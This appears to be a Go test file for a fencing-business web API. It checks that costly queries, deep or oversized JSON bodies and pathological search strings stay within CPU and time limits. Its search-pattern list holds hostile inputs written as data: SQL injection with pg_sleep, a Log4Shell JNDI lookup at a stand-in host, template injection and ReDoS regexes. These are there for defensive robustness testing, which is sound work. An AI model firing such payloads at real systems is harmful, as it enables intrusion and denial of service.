package edgetest

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"fenceplatform.com/fence/internal/testkit"
)

// What an answer to an expensive question may cost (S36). It is counted in processor time, ours and the database's,
// because what else the machine does is not the question's doing, nor is the race detector; waiting is
// bounded by the limit of a statement.
const (
	mostWork = time.Second
	mostWait = 5 * time.Second
)

// TestExpensiveQuestionsAreBounded asks what would cost much: any order, any column, deep pages, patterns, deep and
// long documents, over 20,000 customers. Each answer takes a second of work at most, or the question is refused. It is
// not parallel: the work of other tests of this process would count as its own.
func TestExpensiveQuestionsAreBounded(t *testing.T) {
	s := serve(t)
	meter := s.meter(t)
	client, cookie, token := s.client(), s.signIn(t, testkit.A, owner(testkit.A)), s.token(t, testkit.A, owner(testkit.A))
	s.Exec(t, `INSERT INTO app.customers (org_id, id, name, email, created_by, created_at, updated_at, search_text)
		SELECT org_id, gen_random_uuid(), 'Customer ' || n, 'c' || n || '@a.example', created_by, created_at + n * interval '1 second', updated_at, 'customer ' || n || repeat(' aaaa', 20)
		FROM app.customers, generate_series(1, 20000) AS n WHERE id = $1`, testkit.A.Customer())
	s.Exec(t, "ANALYZE app.customers")
	refused, dearest := 0, time.Duration(0)
	ask := func(in ask, wantRefused bool) {
		t.Helper()
		in.host = host("alpha")
		before, began := meter.read(t), time.Now()
		got := s.send(t, client, in)
		took, work := time.Since(began), meter.read(t)-before
		dearest = max(dearest, work)
		if got.status >= 400 {
			refused++
		}
		if work > mostWork || took > mostWait || got.status >= 500 || wantRefused && got.status != http.StatusUnprocessableEntity && got.status != http.StatusBadRequest {
			t.Errorf("%s %.100s: %d after %v of work in %v", in.method, in.path, got.status, work, took)
		}
	}
	for _, list := range []string{"customers", "quotes", "jobs", "materials", "styles", "tiers", "pricing-zones", "people", "invitations", "api-keys", "audit-entries"} {
		for _, q := range []string{"sort=notes", "sort=name,-created_at", "order=desc", "order_by=random()", "page=1000000", "offset=1000000", "skip=1", "fields=*", "include=quotes.lines", "expand=all", "filter=1", "where=1=1", "group=name", "distinct=1", "limit=1000000", "limit=-1", "limit=0", "per_page=100000", "search=a", "cursor=zzz", "cursor=" + strings.Repeat("A", 4_000)} {
			ask(get("/v1/"+list+"?"+q, token), true)
		}
	}
	for _, q := range patterns() {
		ask(get("/v1/customers?q="+url.QueryEscape(q), token), false)
		ask(get("/v1/quotes?q="+url.QueryEscape(q), token), false)
		page := get("/customers?q="+url.QueryEscape(q), "")
		page.cookie = cookie
		ask(page, false)
	}
	for _, n := range []int{1, 50, 199} { // paging by key: the hundredth page costs what the first does
		next := fmt.Sprintf("/v1/customers?limit=100&cursor=%s", s.cursorAt(t, client, token, n))
		ask(get(next, token), false)
	}
	for name, body := range documents() {
		for _, path := range []string{"/v1/takeoff", "/v1/price", "/v1/customers", "/v1/roi"} {
			in := get(path, token)
			in.method, in.media, in.body = "POST", "application/json", body
			began := len(s.log.String())
			ask(in, false)
			if strings.Contains(s.log.String()[began:], `"status":500`) {
				t.Errorf("%s on %s is our mistake", name, path)
			}
		}
	}
	t.Logf("%d refused; the dearest answer took %v of work", refused, dearest)
}

func get(path, token string) ask { return ask{method: "GET", path: path, bearer: token} }

// cursorAt walks n pages and returns where the next one begins.
func (s *site) cursorAt(t *testing.T, client *http.Client, token string, n int) string {
	t.Helper()
	cursor := ""
	for range n {
		in := get("/v1/customers?limit=100"+cursor, token)
		in.host = host("alpha")
		got := s.send(t, client, in)
		_, rest, found := strings.Cut(got.body, `"next_cursor":"`)
		if !found {
			t.Fatalf("no next page: %.300s", got)
		}
		next, _, _ := strings.Cut(rest, `"`)
		cursor = "&cursor=" + url.QueryEscape(next)
	}
	return strings.TrimPrefix(cursor, "&cursor=")
}

// patterns are searches that some matcher takes long for.
func patterns() []string {
	return []string{
		"%%", "__", "%_%_%_%_%_%_%_%_%_%_", strings.Repeat("%a", 80), strings.Repeat("a", 199), strings.Repeat("a ", 100), strings.Repeat("aaaa", 40) + "b", `\\\\\\\\\\`, "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", ".*.*.*.*.*x",
		"' OR pg_sleep(10)--", "'; SELECT pg_sleep(10); --", "a' AND (SELECT count(*) FROM generate_series(1,1e9)) > 0 --", "${jndi:ldap://evil.example}", "{{7*7}}", strings.Repeat("\u0301", 150), strings.Repeat("👩‍👩‍👧‍👦", 25), "ﷺﷺﷺﷺ", strings.Repeat("x", 5_000),
	}
}

// documents are deep, long and repetitive.
func documents() map[string]string {
	const most = 1 << 20
	nodes, segments := strings.Builder{}, strings.Builder{}
	for n := range 8_000 {
		fmt.Fprintf(&nodes, `,{"id":"n%d","x":%d,"y":0}`, n, n)
		fmt.Fprintf(&segments, `,{"id":"s%d","from":"n%d","to":"n%d"}`, n, n, (n+1)%8_000)
	}
	return map[string]string{
		"deep lists":      strings.Repeat("[", most/2) + strings.Repeat("]", most/2),
		"deep objects":    strings.Repeat(`{"a":`, 150_000) + "1" + strings.Repeat("}", 150_000),
		"deep and cut":    strings.Repeat("[", most),
		"many members":    `{"a":1` + manyMembers(60_000) + "}",
		"a long text":     `{"name":"` + strings.Repeat("a", most-20) + `"}`,
		"a long number":   `{"name":` + strings.Repeat("9", most-20) + `}`,
		"a long exponent": `{"nodes":[{"id":"A","x":1e` + strings.Repeat("9", 10_000) + `,"y":0}]}`,
		"much blank":      strings.Repeat(" ", most-10) + "{}",
		"many escapes":    `{"name":"` + strings.Repeat(`\u0041`, most/7) + `"}`,
		"a long layout":   `{"nodes":[{"id":"x","x":0,"y":9}` + nodes.String() + `],"segments":[{"id":"y","from":"x","to":"n1"}` + segments.String() + `],"style":{"kind":"wood","height_ft":6,"post_spacing_ft":8,"rails":3}}`,
		"a far layout":    `{"nodes":[{"id":"A","x":0,"y":0},{"id":"B","x":99999999,"y":0}],"segments":[{"id":"s","from":"A","to":"B"}],"style":{"kind":"wood","height_ft":6,"post_spacing_ft":0.001,"rails":3}}`,
	}
}

func manyMembers(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"m%d":1`, i)
	}
	return b.String()
}

// TestStatementsEndByThemselves: what one statement of a request may take is bounded by the database itself.
func TestStatementsEndByThemselves(t *testing.T) {
	t.Parallel()
	s := serve(t)
	client, token := s.client(), s.token(t, testkit.A, owner(testkit.A))
	in := get("/v1/customers", token).on("alpha")
	s.send(t, client, in) // prepares the statement: a wait for that ends with the request, after 20 s
	release := s.lock(t, "app.customers", 12)
	began := time.Now()
	got := s.send(t, client, in)
	took := time.Since(began)
	release()
	if got.status < 500 || took < 4*time.Second || took > 10*time.Second {
		t.Errorf("a statement that waits for ever: %s after %v, want it given up after 5 s", got, took)
	}
	if got := s.send(t, client, in); got.status != http.StatusOK {
		t.Errorf("afterwards: %s", got)
	}
}
